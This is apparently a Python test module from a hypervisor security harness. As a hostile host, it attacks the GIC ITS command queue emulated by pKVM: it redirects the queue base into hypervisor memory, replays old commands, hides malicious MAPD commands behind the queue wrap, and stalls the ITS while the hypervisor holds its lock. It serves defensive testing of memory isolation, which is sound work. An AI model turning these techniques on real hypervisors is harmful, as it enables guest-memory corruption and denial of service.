"""Attacks on the command queue: A7, A14, A15, A17, A18; races for it are in ``attacks_races``.

The queue decides what the ITS does. These attacks put it where it does not belong, change it while it is read, run it twice,
run it past its end, or make it stop for good.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from itsbox.arch.its_commands import (
    COMMAND_SIZE,
    INT,
    MAPD,
    MAPTI,
    MOVALL,
    SYNC,
    VMOVP,
)
from itsbox.arch.its_registers import GITS_CBASER, GITS_CREADR, GITS_CWRITER
from itsbox.arch.its_tables import ITT_ALIGNMENT
from itsbox.arch.values import FIRST_LPI, PAGE_SHIFT
from itsbox.host.attacks import EVENT_BITS, CannotBePlayed
from itsbox.host.attacks_virtual import EARLY_VPE

if TYPE_CHECKING:
    from itsbox.host.attacks import HostileHost

__all__ = [
    "announced_while_off",
    "behind_the_wrap", "cbaser_to_hyp_page", "permanent_stall", "replay", "stalled_under_lock", "wrap_and_bounds",
]  # fmt: skip

_DEVICE: Final = 0x90


def _map(device_id: int, itt: int) -> MAPD:
    return MAPD(device_id=device_id, size=EVENT_BITS, itt_addr=itt, valid=1)


def _event(device_id: int, event_id: int = 0) -> MAPTI:
    return MAPTI(device_id=device_id, event_id=event_id, intid=FIRST_LPI + 0x133, icid=0)


def _bytes(command: Any) -> bytes:
    data: bytes = command.STRUCT.pack(*command.encode())
    return data


def cbaser_to_hyp_page(host: HostileHost) -> None:
    """A7: GITS_CBASER names hypervisor memory: the ITS takes it for commands."""
    victim = host.hyp_page(7)
    value = GITS_CBASER.decode(host.read(host.gits(GITS_CBASER)))
    host.say("Disable the ITS and name the hypervisor's memory as its queue.")
    host.enable(False)
    forged = value.replace(physical_address=victim, size=0, valid=1)
    host.write(host.gits(GITS_CBASER), forged.word())
    host.say("If the size must stay, change the address alone.")
    host.write(host.gits(GITS_CBASER), value.replace(physical_address=victim).word())
    host.say("Enable it and let it read four commands from there.")
    host.write(host.gits(GITS_CWRITER), 4 * COMMAND_SIZE)
    host.enable(True)
    host.ring(4 * COMMAND_SIZE)
    host.show("What the ITS took for a command.", victim, COMMAND_SIZE)


def replay(host: HostileHost) -> None:
    """A14: GITS_CBASER is written again, which sets GITS_CREADR to 0: commands that were carried out run a second time."""
    host.say("Map a device and an event, honestly, and end the device again. The page is the host's alone then.")
    first = host.write_offset
    itt = host.needs_own(_DEVICE + 16)
    page = itt >> PAGE_SHIFT << PAGE_SHIFT
    host.post(_event(_DEVICE + 16, 1))
    last = host.write_offset
    host.post(MAPD(device_id=_DEVICE + 16, size=EVENT_BITS, itt_addr=itt, valid=0))
    host.say("Give the page to a guest.")
    host.hvc("__pkvm_host_unshare_hyp", page >> PAGE_SHIFT)
    given = host.give_away(page)
    if not given and host.box.phase == "trusted":
        host.say(
            "Without a hypervisor pages do not change hands: have the commands name a guest's page from the start."
        )
        first = host.write_offset
        host.post(_map(_DEVICE + 17, host.guest_page(3)), _event(_DEVICE + 17, 1))
        last = host.write_offset
    host.say(
        "Write GITS_CBASER once more, unchanged: GITS_CREADR becomes 0, and old commands lie between it and CWRITER."
    )
    host.enable(False)
    host.write(host.gits(GITS_CBASER), host.read(host.gits(GITS_CBASER)))
    host.enable(True)
    host.say("Write GITS_CREADR too, where that is possible: back to just before the old MAPD.")
    host.write(host.gits(GITS_CREADR), first)
    host.say("Announce the old commands again.")
    host.ring(last)
    host.write_offset = last
    host.show("The page that is a guest's now, after.", (itt if given else host.guest_page(3)) + 12)


def wrap_and_bounds(host: HostileHost) -> None:
    """A15: GITS_CWRITER out of range, with reserved bits and in halves, then hostile commands behind the wrap of the queue."""
    at = host.gits(GITS_CWRITER)
    host.say("Offsets outside the queue, at its end, and with reserved bits.")
    for offset in (host.queue_bytes, host.queue_bytes + COMMAND_SIZE, 0xFFFE0):
        host.write(at, offset)
        host.write(at, host.write_offset)
    host.say("The register in halves: the high one first, then the low one.")
    host.write(at + 4, 0, 4)
    host.write(at, host.write_offset, 4)
    behind_the_wrap(host)


def behind_the_wrap(host: HostileHost) -> None:
    """5: harmless commands in the queue's last slots and hostile ones in its first, announced by one write."""
    victim = host.hyp_page(10)
    host.say("Fill the queue with harmless commands up to its last slots.")
    _fill_to(host, host.queue_bytes - 2 * COMMAND_SIZE)
    host.say("Harmless commands in the last slots, a hostile MAPD and its MAPTI in the first: one write announces all.")
    offset = host.put(SYNC(rd_base=host.rd_base()))
    offset = host.put(SYNC(rd_base=host.rd_base()), offset)
    offset = host.put(_map(_DEVICE + 32, victim + ITT_ALIGNMENT), offset)
    offset = host.put(_event(_DEVICE + 32), offset)
    host.ring(offset)
    host.write_offset = offset
    if host.creadr() != offset:
        host.say("It does not pass: replace the hostile commands and go on.")
        for slot in (0, COMMAND_SIZE):
            host.put(SYNC(rd_base=host.rd_base()), slot)
        host.ring(offset)
    host.say("Page aligned this time, with two commands before the wrap and two behind it.")
    _fill_to(host, host.queue_bytes - 2 * COMMAND_SIZE)
    offset = host.put(SYNC(rd_base=host.rd_base()), host.put(SYNC(rd_base=host.rd_base())))
    offset = host.put(_event(_DEVICE + 33), host.put(_map(_DEVICE + 33, victim), offset))
    host.ring(offset)
    host.write_offset = offset
    host.show("The victim, after.", victim + ITT_ALIGNMENT)


def _fill_to(host: HostileHost, end: int) -> None:
    """Post harmless commands, many at a time, up to an offset."""
    data = _bytes(SYNC(rd_base=host.rd_base())) * 256
    while host.write_offset < end:
        length = min(len(data), end - host.write_offset)
        host.store(host.slot(host.write_offset), data[:length])
        host.write_offset += length
        host.ring(host.write_offset)


def stalled_under_lock(host: HostileHost) -> None:
    """A17: a command that the ITS stalls at, while the hypervisor waits for it under its lock."""
    host.say("An INT for a device that was never mapped: an error, at which this ITS stalls.")
    host.post(INT(device_id=0x77, event_id=0))
    host.say("More commands behind it, and the same from another place of the queue.")
    host.post(SYNC(rd_base=host.rd_base()), INT(device_id=0x78, event_id=1), SYNC(rd_base=host.rd_base()))
    host.say("A hypercall that needs the hypervisor's lock.")
    host.hvc("__pkvm_init_its_emulation", host.box.map.its, host.pages(), host.pages())
    host.say("Does honest traffic still pass?")
    _prove_alive(host)


def announced_while_off(host: HostileHost) -> None:
    """A MAPD is announced while the ITS is off; it may be refused then, but must not run later with pages that nobody holds."""
    itt = host.needs_own(_DEVICE + 20)
    page = itt >> PAGE_SHIFT << PAGE_SHIFT
    host.post(MAPD(device_id=_DEVICE + 20, size=EVENT_BITS, itt_addr=itt, valid=0))
    host.say("Disable the ITS and announce a MAPD.")
    host.enable(False)
    offset = host.put(_map(_DEVICE + 21, itt))
    host.ring(offset)
    host.write_offset = offset
    host.say("Give its page to a guest, if nobody holds it; then enable the ITS.")
    host.hvc("__pkvm_host_unshare_hyp", page >> PAGE_SHIFT)
    host.give_away(page)
    host.enable(True)
    host.say("If the MAPD was carried out, an event of the device lands in the page.")
    host.post(_event(_DEVICE + 21))
    host.show("The page, after.", itt)
    host.without_hypervisor(_DEVICE + 22)


def permanent_stall(host: HostileHost) -> None:
    """A18: commands that wait for something that does not exist: an absent CPU, an absent ITS in the ITSList of a VMOVP."""
    absent = 0x3F
    host.say("SYNC and MOVALL to a CPU that does not exist.")
    host.leave(SYNC(rd_base=absent))
    host.leave(MOVALL(rd_base1=absent, rd_base2=host.rd_base()))
    host.needs_virtual()
    if host.typer.vmovp:
        raise CannotBePlayed(
            "a VMOVP names no other ITS here (GITS_TYPER.VMOVP is 1): take profile virt-gicv4-dual-its"
        )
    host.say("Move a vPE, with a VMOVP whose ITSList names sixteen ITSs. Most of them do not exist, and never come.")
    host.leave(VMOVP(sequence_number=1, its_list=0xFFFF, vpe_id=EARLY_VPE, rd_base=host.rd_base()))
    host.say("Does honest traffic still pass?")
    _prove_alive(host)


def _prove_alive(host: HostileHost) -> None:
    """Honest traffic: map a device and an event, and have it delivered."""
    host.map_own(_DEVICE + 48)
    host.post(_event(_DEVICE + 48), SYNC(rd_base=host.rd_base()))
    if not host.msi(_DEVICE + 48, 0):
        host.stuck = True
